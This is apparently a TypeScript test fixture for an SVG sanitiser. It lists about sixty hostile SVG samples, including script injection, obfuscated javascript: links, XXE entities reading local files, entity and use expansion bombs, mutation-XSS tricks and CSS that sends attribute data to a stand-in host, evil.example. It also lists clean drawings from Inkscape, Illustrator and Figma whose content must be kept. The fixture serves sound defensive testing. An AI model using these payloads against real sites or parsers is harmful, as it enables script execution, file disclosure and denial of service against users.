/** A drawing with a namespace of its own, as most programs write it. */
const drawing = (inside: string, attributes = ''): string =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" viewBox="0 0 40 30"${attributes}>${inside}</svg>`;

/** Returns nested groups of uses. Each level draws the previous one ten times. */
const multiplied = (levels: number): string =>
  Array.from(
    { length: levels },
    (_, level) => `<g id="g${level + 1}">${`<use xlink:href="#g${level}"/>`.repeat(10)}</g>`,
  ).join('');

/**
 * Drawings that run script, load something, open something or take long to draw. All scripts call `evil()`, and all
 * addresses name `evil.example`, so that neither may be in the output of a cleaner.
 */
export const hostileSvgs: Readonly<Record<string, string>> = {
  'a script': drawing('<script>evil()</script>'),
  'a script in capitals': drawing('<SCRIPT>evil()</SCRIPT>'),
  'a script in a section': drawing('<script><![CDATA[evil()]]></script>'),
  'a script from elsewhere': drawing('<script href="https://evil.example/a.js"/>'),
  'a script with the old kind of address': drawing('<script xlink:href="data:text/javascript,evil()"/>'),
  'a script under another prefix': drawing('<s:script xmlns:s="http://www.w3.org/2000/svg">evil()</s:script>'),
  'a script of HTML': drawing('<h:script xmlns:h="http://www.w3.org/1999/xhtml">evil()</h:script>'),
  'a script among metadata': drawing('<metadata><script>evil()</script></metadata><path d="M0 0h1"/>'),
  'a document under another prefix': '<x:svg xmlns:x="http://www.w3.org/2000/svg"><x:script>evil()</x:script></x:svg>',
  'a handler of the root': drawing('', ' onload="evil()"'),
  'a handler in capitals': drawing('<rect OnLoad="evil()" width="4"/>'),
  'a handler of focus': drawing('<g tabindex="1" onfocusin="evil()" autofocus="autofocus"/>'),
  'a handler of an animation': drawing('<rect><animate attributeName="x" onbegin="evil()" dur="1s"/></rect>'),
  'a handler after a line break': drawing('<rect width="4"\nonclick\n=\n"evil()"/>'),
  'a link that runs script': drawing('<a href="javascript:evil()"><text y="9">A</text></a>'),
  'a link with white space in its scheme': drawing('<a xlink:href=" java&#9;script&#10;:evil()"><text>A</text></a>'),
  'a link spelt in references': drawing('<a href="&#x6A;avascript&#58;evil()"><text>A</text></a>'),
  'a link in mixed case': drawing('<a xlink:href="JaVaScRiPt:evil()"><text>A</text></a>'),
  'a link to elsewhere': drawing('<a href="https://evil.example/"><rect width="40" height="30"/></a>'),
  'an address under another prefix': drawing(
    '<use l:href="https://evil.example/a.svg#b" xmlns:l="http://www.w3.org/1999/xlink"/>',
  ),
  'HTML inside': drawing(
    '<foreignObject><body xmlns="http://www.w3.org/1999/xhtml"><b onclick="evil()"/></body></foreignObject>',
  ),
  'a frame inside': drawing(
    '<foreignObject><iframe xmlns="http://www.w3.org/1999/xhtml" src="javascript:evil()"/></foreignObject>',
  ),
  'a part of another file': drawing('<use href="https://evil.example/a.svg#b"/>'),
  'a part of a data address': drawing(
    '<use class="evil" href="data:image/svg+xml;base64,PHN2ZyBpZD0iYSI+PHNjcmlwdD5ldmlsKCk8L3NjcmlwdD48L3N2Zz4=#a"/>',
  ),
  'a picture from elsewhere': drawing('<image href="https://evil.example/a.png" width="4" height="4"/>'),
  'a drawing in a data address': drawing(
    '<image xlink:href="data:image/svg+xml,&lt;svg onload=%22evil()%22/&gt;" width="4" height="4"/>',
  ),
  'a filter that loads': drawing('<filter id="f"><feImage xlink:href="//evil.example/a.png"/></filter>'),
  'a fill from elsewhere': drawing('<rect width="4" fill="url(https://evil.example/a.svg#b)"/>'),
  'a mask from elsewhere': drawing('<rect width="4" style="mask:url(//evil.example/a.svg#b)"/>'),
  'a gradient from elsewhere': drawing('<linearGradient id="a" xlink:href="//evil.example/a.svg#b"/>'),
  'an import': drawing('<style>@import url("https://evil.example/a.css");</style>'),
  'an import in capitals': drawing('<style>@IMPORT "//evil.example/a.css";</style>'),
  'an import after a section': drawing('<style><![CDATA[@import]]> "//evil.example/a.css";</style>'),
  'a typeface': drawing('<style>@font-face{font-family:a;src:url(//evil.example/a.woff2)}</style>'),
  'a style sheet that reads attributes': drawing(
    '<style>[id^=a]{background:url(//evil.example/?a)}</style><g id="a"/>',
  ),
  'a cursor': drawing('<rect width="4" style="cursor:url(//evil.example/a.cur),auto"/>'),
  'a style sheet that ends in HTML': drawing('<style><![CDATA[</style><img src="x" onerror="evil()">]]></style>'),
  'an address that an animation sets': drawing(
    '<a id="l"><animate attributeName="href" values="javascript:evil()"/><text>A</text></a>',
  ),
  'an address that a set sets': drawing(
    '<a><set attributeName="xlink:href" to="javascript:evil()"/><text>A</text></a>',
  ),
  'a handler that a set sets': drawing('<rect width="4"><set attributeName="onmouseover" to="evil()"/></rect>'),
  'another base': drawing('<g xml:base="https://evil.example/"><use href="a.svg#b"/></g>'),
  'a style sheet in an instruction': `<?xml-stylesheet href="https://evil.example/a.css"?>${drawing('')}`,
  'a transformation in an instruction': `<?xml-stylesheet type="text/xsl" href="data:text/xml,evil"?>${drawing('')}`,
  'an entity of a file': `<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/evil">]>${drawing('<text>&a;</text>')}`,
  'an entity of an address': `<!DOCTYPE svg [<!ENTITY % a SYSTEM "https://evil.example/a.dtd"> %a;]>${drawing('')}`,
  'an entity that hides script': `<!DOCTYPE svg [<!ENTITY a "<script>evil()</script>">]>${drawing('&a;')}`,
  'entities that multiply': `<!DOCTYPE svg [<!ENTITY a "evil">${Array.from(
    { length: 9 },
    (_, level) => `<!ENTITY a${level} "${(level ? `&a${level - 1};` : '&a;').repeat(10)}">`,
  ).join('')}]>${drawing('<text>&a8;</text>')}`,
  'attributes that a type declares': `<!DOCTYPE svg [<!ATTLIST svg onload CDATA "evil()">]>${drawing('')}`,
  'HTML after a nested drawing': drawing(
    '<svg><desc><h:img xmlns:h="http://www.w3.org/1999/xhtml" src="x" onerror="evil()"/></desc></svg>',
  ),
  'HTML in a title': drawing('<title><img src="x" onerror="evil()"/></title>'),
  'a style of HTML that a second reading opens': drawing(
    '<desc><math><mtext><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=evil()&gt;"/></mglyph></mtext></math></desc>',
  ),
  'a handler of events': drawing(
    '<ev:listener xmlns:ev="http://www.w3.org/2001/xml-events" event="load" handler="#evil"/>',
  ),
  'a video': drawing('<video xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example/a.mp4" autoplay=""/>'),
  'uses that multiply': drawing(
    `<g id="g0"><path d="M0 0h1"/></g>${multiplied(8)}<use xlink:href="#g8"/><desc>evil</desc>`,
  ),
  'a filter that takes long': drawing(
    '<filter id="f"><feGaussianBlur stdDeviation="99999"/></filter><rect filter="url(#f)" class="evil"/>',
  ),
  'a hundred thousand elements': drawing(`<desc>evil</desc>${'<path d="M0 0h1"/>'.repeat(100_000)}`),
  'elements nested ten thousand deep': drawing(`<desc>evil</desc>${'<g>'.repeat(10_000)}${'</g>'.repeat(10_000)}`),
  'an attribute of six million characters': drawing(`<desc>evil</desc><path d="M0 0${'h1'.repeat(3_000_000)}"/>`),
};

interface GoodSvg {
  source: string;
  /** Text that the cleaned drawing must still contain. */
  kept: readonly string[];
}

/** Drawings as programs for drawing write them. */
export const goodSvgs: Readonly<Record<string, GoodSvg>> = {
  'Inkscape, plain': {
    source: `<?xml version="1.0" encoding="UTF-8" standalone="no"?>
<!-- Created with Inkscape (http://www.inkscape.org/) -->
<svg width="210mm" height="297mm" viewBox="0 0 210 297" version="1.1" id="svg5" inkscape:version="1.3.2 (091e20e, 2023-11-25)" sodipodi:docname="leaf.svg"
   xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" xmlns:sodipodi="http://sodipodi.sourceforge.net/DTD/sodipodi-0.dtd"
   xmlns:xlink="http://www.w3.org/1999/xlink" xmlns="http://www.w3.org/2000/svg" xmlns:svg="http://www.w3.org/2000/svg"
   xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#" xmlns:cc="http://creativecommons.org/ns#" xmlns:dc="http://purl.org/dc/elements/1.1/">
  <sodipodi:namedview id="namedview7" pagecolor="#ffffff" inkscape:pageopacity="0.0" inkscape:document-units="mm" showgrid="false" />
  <defs id="defs2">
    <linearGradient inkscape:collect="always" id="linearGradient1"><stop style="stop-color:#426a88;stop-opacity:1;" offset="0" id="stop1" /><stop style="stop-color:#426a88;stop-opacity:0;" offset="1" id="stop2" /></linearGradient>
    <linearGradient inkscape:collect="always" xlink:href="#linearGradient1" id="linearGradient2" x1="10" y1="20" x2="90" y2="20" gradientUnits="userSpaceOnUse" />
    <inkscape:path-effect effect="spiro" id="path-effect1" is_visible="true" lpeversion="1" />
  </defs>
  <metadata id="metadata5"><rdf:RDF><cc:Work rdf:about=""><dc:format>image/svg+xml</dc:format><dc:title /></cc:Work></rdf:RDF></metadata>
  <g inkscape:label="Layer 1" inkscape:groupmode="layer" id="layer1">
    <path style="fill:url(#linearGradient2);stroke:#000000;stroke-width:0.264583px;stroke-linecap:butt;-inkscape-stroke:none" d="m 10,20 c 30,-15 60,15 80,0" id="path1" sodipodi:nodetypes="cc" />
    <text xml:space="preserve" style="font-size:10.5833px;line-height:1.25;font-family:sans-serif;-inkscape-font-specification:'sans-serif'" x="12" y="40" id="text1"><tspan sodipodi:role="line" id="tspan1" x="12" y="40">Breathe</tspan></text>
  </g>
</svg>`,
    kept: ['fill:url(#linearGradient2)', 'xlink:href="#linearGradient1"', 'stop-color:#426a88', '>Breathe</tspan>'],
  },
  'Inkscape with a blur and a clip': {
    source: `<svg xmlns="http://www.w3.org/2000/svg" xmlns:inkscape="http://www.inkscape.org/namespaces/inkscape" viewBox="0 0 100 100"><defs>
<filter inkscape:collect="always" style="color-interpolation-filters:sRGB" id="filter1" x="-0.1" y="-0.1" width="1.2" height="1.2"><feGaussianBlur inkscape:collect="always" stdDeviation="2.5" id="feGaussianBlur1" /></filter>
<clipPath clipPathUnits="userSpaceOnUse" id="clipPath1"><circle cx="50" cy="50" r="40" /></clipPath></defs>
<g clip-path="url(#clipPath1)"><rect width="80" height="80" style="filter:url(#filter1);mix-blend-mode:normal" transform="matrix(1,0,0,1,5,5)" /></g></svg>`,
    kept: ['filter:url(#filter1)', 'clip-path="url(#clipPath1)"', 'stdDeviation="2.5"', 'matrix(1,0,0,1,5,5)'],
  },
  'Illustrator, presentation attributes': {
    source: `<?xml version="1.0" encoding="utf-8"?>
<!-- Generator: Adobe Illustrator 27.0.0, SVG Export Plug-In . SVG Version: 6.00 Build 0)  -->
<svg version="1.1" id="Layer_1" xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" x="0px" y="0px" viewBox="0 0 200 100" style="enable-background:new 0 0 200 100;" xml:space="preserve">
<style type="text/css">
	.st0{clip-path:url(#SVGID_2_);}
	.st1{fill:#426A88;}
	.st2{fill:none;stroke:#1D1D1B;stroke-width:2;stroke-linecap:round;stroke-linejoin:round;stroke-miterlimit:10;}
</style>
<g><defs><rect id="SVGID_1_" width="200" height="100"/></defs><clipPath id="SVGID_2_"><use xlink:href="#SVGID_1_"  style="overflow:visible;"/></clipPath>
<g class="st0"><polygon class="st1" points="10,10 50,10 30,50 	"/><path class="st2" d="M60,20c10-10,20,10,30,0"/></g></g>
</svg>`,
    kept: ['.st1{fill:#426A88}', 'clip-path:url(#SVGID_2_)', 'xlink:href="#SVGID_1_"', 'points="10,10 50,10 30,50'],
  },
  'Illustrator with a document type': {
    source: `<?xml version="1.0" encoding="utf-8"?>
<!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">
<svg version="1.1" xmlns="http://www.w3.org/2000/svg" width="64px" height="64px" viewBox="0 0 64 64"><radialGradient id="SVGID_1_" cx="32" cy="32" r="30" gradientUnits="userSpaceOnUse"><stop  offset="0" style="stop-color:#FFFFFF"/><stop  offset="1" style="stop-color:#C5D5E0"/></radialGradient><circle fill="url(#SVGID_1_)" cx="32" cy="32" r="30"/></svg>`,
    kept: ['fill="url(#SVGID_1_)"', 'stop-color:#C5D5E0', 'radialGradient id="SVGID_1_"'],
  },
  'Illustrator with a mask and letters along a path': {
    source: drawing(
      '<mask id="m" maskUnits="userSpaceOnUse" x="0" y="0" width="40" height="30"><g style="filter:url(#a)"><rect fill="#fff" width="40" height="30"/></g></mask><filter id="a" filterUnits="userSpaceOnUse"><feColorMatrix type="matrix" values="1 0 0 0 0  0 1 0 0 0  0 0 1 0 0  0 0 0 1 0"/></filter><path id="p" d="M0 10h40"/><g mask="url(#m)"><text><textPath xlink:href="#p" startOffset="25%">Calm</textPath></text></g>',
    ),
    kept: ['mask="url(#m)"', 'xlink:href="#p"', 'startOffset="25%"', 'values="1 0 0 0 0'],
  },
  'Figma, a shadow': {
    source: `<svg width="120" height="48" viewBox="0 0 120 48" fill="none" xmlns="http://www.w3.org/2000/svg">
<g filter="url(#filter0_d_1_2)"><rect x="4" width="112" height="40" rx="8" fill="url(#paint0_linear_1_2)"/></g>
<defs><filter id="filter0_d_1_2" x="0" y="0" width="120" height="48" filterUnits="userSpaceOnUse" color-interpolation-filters="sRGB"><feFlood flood-opacity="0" result="BackgroundImageFix"/><feColorMatrix in="SourceAlpha" type="matrix" values="0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 0 127 0" result="hardAlpha"/><feOffset dy="4"/><feGaussianBlur stdDeviation="2"/><feComposite in2="hardAlpha" operator="out"/><feBlend mode="normal" in2="BackgroundImageFix" result="effect1"/><feBlend mode="normal" in="SourceGraphic" in2="effect1" result="shape"/></filter>
<linearGradient id="paint0_linear_1_2" x1="60" y1="0" x2="60" y2="40" gradientUnits="userSpaceOnUse"><stop stop-color="#426A88"/><stop offset="1" stop-color="#1F3A4F" stop-opacity="0.8"/></linearGradient></defs></svg>`,
    kept: ['filter="url(#filter0_d_1_2)"', 'fill="url(#paint0_linear_1_2)"', 'operator="out"', 'flood-opacity="0"'],
  },
  'Figma, a mask': {
    source: `<svg width="24" height="24" viewBox="0 0 24 24" fill="none" xmlns="http://www.w3.org/2000/svg"><mask id="mask0" style="mask-type:luminance" maskUnits="userSpaceOnUse" x="0" y="0" width="24" height="24"><path d="M24 0H0V24H24V0Z" fill="white"/></mask><g mask="url(#mask0)"><path fill-rule="evenodd" clip-rule="evenodd" d="M12 2L22 22H2L12 2Z" fill="black"/></g></svg>`,
    kept: ['mask-type:luminance', 'mask="url(#mask0)"', 'clip-rule="evenodd"'],
  },
  'a sheet of symbols': {
    source: drawing(
      '<symbol id="dot" viewBox="0 0 4 4"><circle cx="2" cy="2" r="2"/></symbol><pattern id="grid" width="10" height="10" patternUnits="userSpaceOnUse"><path d="M10 0H0v10" fill="none" stroke="#ccc"/></pattern><rect width="40" height="30" fill="url(#grid)"/><use href="#dot" x="4" width="8" height="8"/><use xlink:href="#dot" x="20" width="8" height="8"/>',
    ),
    kept: ['<symbol id="dot"', 'fill="url(#grid)"', 'href="#dot" x="4"', 'xlink:href="#dot" x="20"'],
  },
  'a style sheet in a section, for a dark screen too': {
    source: drawing(
      '<style><![CDATA[.a{fill:#123}@media (prefers-color-scheme: dark){.a{fill:#def}}]]></style><path class="a" d="M0 0h9v9z"/>',
    ),
    kept: ['.a{fill:#123}', 'prefers-color-scheme:dark', 'class="a"'],
  },
  'a chart with arrows': {
    source: drawing(
      '<title>Sleep, in hours</title><marker id="arrow" markerWidth="6" markerHeight="6" refX="5" refY="3" orient="auto"><path d="M0 0l6 3-6 3z"/></marker><polyline points="0,30 10,20 20,25 40,5" fill="none" stroke="currentColor" marker-end="url(#arrow)"/><text x="2" y="8" font-family="Arial, sans-serif" text-anchor="start">A &amp; B &lt; C</text>',
      ' role="img" aria-label="A chart"',
    ),
    kept: ['marker-end="url(#arrow)"', 'currentColor', 'A &amp; B &lt; C', 'aria-label="A chart"', 'Sleep, in hours'],
  },
};
